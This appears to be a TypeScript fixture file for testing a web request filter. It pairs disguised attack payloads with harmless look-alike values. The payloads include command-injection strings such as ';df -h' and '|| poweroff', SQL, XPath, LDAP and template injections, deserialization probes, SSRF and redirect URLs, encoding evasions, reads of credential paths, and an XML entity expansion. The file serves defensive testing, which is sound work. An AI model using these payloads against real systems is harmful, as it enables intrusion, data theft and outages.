import { typed } from '../request-variants/request-variant.ts'
import { type AttackSort, inJson, uploaded } from './body-attack.ts'
import { inArguments, inCookie, inHeader, inNamed, inPath } from './in-payloads.ts'

const inReferer = (query: string) => inHeader('Referer', `http://www.example.org/a?page=2&${query}`)
const inElement = (value: string) =>
  typed(`element ${value}`, 'application/xml', () => `<a><b>${value.replaceAll('&', '&amp;')}</b></a>`)
const inWholeJson = (value: unknown) =>
  typed(`whole ${JSON.stringify(value)}`, 'application/json', () => JSON.stringify(value))
const twice = (value: string) => inNamed('q', encodeURIComponent(value))

/** Characters of ASCII in two bytes of UTF-8, which no encoder writes, with percent signs. */
const overlong = (text: string) =>
  Array.from(text, (character) => {
    const code = character.charCodeAt(0)
    return `%${(0xc0 | (code >> 6)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`
  }).join('')

/** What is found in lists of payloads less often, and attacks that are written so that rules take them for something else. */
export const inDisguises: readonly AttackSort[] = [
  {
    sort: 'commands of any program behind a mark, and behind a word that is a name of a file',
    attacks: [
      ...[
        ';df -h',
        '; (id)',
        ';{ id; }',
        '&& systemctl stop a',
        ';watch id',
        '|| poweroff',
        ';stdbuf -o0 id',
      ],
      ...['photo.jpg|id', 'ann@example.org;id', '--help|id', ';>a', ';export A=1', 'x;i\\\nd', '/e?c/passwd'],
    ].flatMap(inArguments),
    ordinary: [
      ...['& free shipping', '& join us', '&c', 'contact.name|id'],
      ...['a.txt; b.txt', 'AT&T', '& more', '; host of a party'],
    ].map(inJson),
  },
  {
    sort: 'statements with operators of JSON, patterns and sums, and conditions of XPath and LDAP',
    attacks: [
      ...["' or '{\"b\":3}'::json->>'b'='3'--", "1' and json_extract('{\"b\":2}',\"$.b\")=2 and 'b'='b"],
      ...['9 and (select case when (2=2) then 1/0 else 0 end)', "b' glob '*", 'mail from a where 2=2--'],
      ...['5;table accounts', 'and not 4=4#', "' | /* | '", "' or false() or '", "doc('http://e.example/a')"],
      ...[
        'normalize-space(//account)',
        'x)(cn=a*',
        '{"$mod":[2,0]}',
        'chr(65)||chr(66)',
        "a' and @id=3 or '",
      ],
    ].flatMap(inArguments),
    ordinary: [
      ...[
        "'a' | ['b']",
        'What happens where 2 = two?',
        'Is it in "{a}" or not?',
        'a * 5',
        '{"$size":"large"}.',
      ],
      ...['select the case', "it's 5 - 6", 'the table (5; table of contents)', 'f(x)=2 or (y)', ':) (see b)'],
    ].map(inJson),
  },
  {
    sort: 'templates and objects of further languages',
    attacks: [
      ...[
        '$a.getClass()',
        '$!{b.class}',
        `\${.data_model}`,
        `\${applicationScope}`,
        '{%print(6*9)%}',
        '<%= session %>',
      ],
      ...[
        "{{ constant('A') }}",
        '{{lookup . "constructor"}}',
        '{$smarty.version}',
        "{fetch file='/a'}",
        '<%import os%>',
      ],
      ...[
        'new ProcessBuilder("a").start()',
        "os.execute('a')",
        '"\\x65\\x78\\x65\\x63"(\'a\')',
        '#{root.process}',
      ],
      ...[
        '!!js/function "a"',
        '!!com.example.a.B [c]',
        '{"json_class":"Gem::Installer"}',
        '=HYPERLINK("http://a?"&A1)',
      ],
    ].flatMap(inArguments),
    ordinary: [
      ...[
        '{{ constant }}',
        '{% if user %}',
        '{include}',
        '$a.title',
        '#{root}',
        '<% session is a tag',
        '!!! Wow',
      ],
      ...['=HYPERLINK("https://www.example.org","Site")', 'new String("a")', '{"json_class":"Order"}'],
    ].map(inJson),
  },
  {
    sort: 'hosts in letters that are none, and URLs that browsers read otherwise than checks',
    attacks: [
      'http://\u24db\u24de\u24d2\u24d0l/a',
      'http://[::1%25lo]/',
      'http://100.64.1.1/',
      'http://0.1.2.3/',
    ].flatMap(inArguments),
    ordinary: ['http://müller.example/', 'https://例え.example/', 'http://a100.64.example/'].map(inJson),
  },
  {
    sort: 'places where a browser is to go, in slashes and backslashes',
    attacks: [
      'https:\\e.example',
      '\\/e.example',
      '/./\\e.example',
      '/https:e.example',
      '//203.0.113.9/',
    ].map((value) => inNamed('next', value)),
    ordinary: ['/a/./b', '/account?from=https', 'C:/a', '\\d+/a'].map((value) => inNamed('next', value)),
  },
  {
    sort: 'values that are encoded once more than rules decode, or in ways of which they know nothing',
    attacks: [
      ...[';nice id', "{system('a')}", 'php://filter/resource=a', '&start calc'].map(twice),
      ...["1' union select 2,3-- ", '<script>alert(1)</script>'].flatMap((value) => [
        inJson(overlong(value)),
        inCookie(overlong(value)),
      ]),
      inJson("1'\x01union\x02select\x033,4-- "),
      inJson("1'%u%n%i%o%n %s%e%l%e%c%t %2,%3%-%- ".replace('%u', ' %u')),
    ],
    ordinary: [
      ...['https://www.example.org/?q=a&b=c d', '/search?q=50% off', 'Größe (cm)', 'a+b'].map(twice),
      ...['%d of %s in %s', '100% of 50% of 20%', '\xc0 la carte, \xc1gnes', '\x01\x02\x03 and more'].map(
        inJson,
      ),
    ],
  },
  {
    sort: 'attacks in a Referer, in paths, in elements and in names of files and parameters',
    attacks: [
      ...['q={{7*7}}', 'q=;id', 'q=$(id)', 'id=%{6*9}', 'q=||id'].map(inReferer),
      ...['exists(select 2)', 'case when 1=1 then sleep(4) else 0 end'].map(inPath),
      ...[
        '/run/secrets/a',
        'jar:http://e.example/a!/b',
        'WEB-INF/a.xml',
        'BAhbCGMVR2VtOjpTcGVjRmV0Y2hlcg==',
      ].map(inElement),
      ...['/etc/crontab', '..%2f..%2fetc%2fa', '1 union select 2,3', 'a.aspx::$DATA'].map((name) =>
        uploaded(name, undefined, 'blue'),
      ),
      { name: 'GLOBALS', target: () => '/?GLOBALS[a]=1', isOrdinary: true },
      { name: 'step up with a backslash', target: () => '/a/..%5cb/c', isOrdinary: true },
      inWholeJson(['org.apache.a.B', { c: 'd' }]),
    ],
    ordinary: [
      ...['q=a|b', 'q=a%20%7B%7B', 'a=b;c=d', 'q=1;2', 'range={10,20}'].map(inReferer),
      ...['/docs/etc/', 'https://www.example.org/a', 'QW5uIGFuZCBCb2IgYXJlIGhlcmU='].map(inElement),
      ...['Union Jack.png', 'report (1).pdf', 'C:\\Users\\ann\\a.jpg', '50%25.txt'].map((name) =>
        uploaded(name, undefined, 'blue'),
      ),
      inWholeJson(['www.example.org', { c: 'd' }]),
    ],
  },
  {
    sort: 'documents whose entities are made of others',
    attacks: [
      uploaded('a.xml', 'text/xml', '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;&b;">]><a>&d;</a>'),
    ],
    ordinary: [
      uploaded(
        'a.xml',
        'text/xml',
        '<!DOCTYPE a [<!ENTITY b "1 &lt; 2 &amp; 3"><!ENTITY c "&b;!">]><a>&c;</a>',
      ),
    ],
  },
]
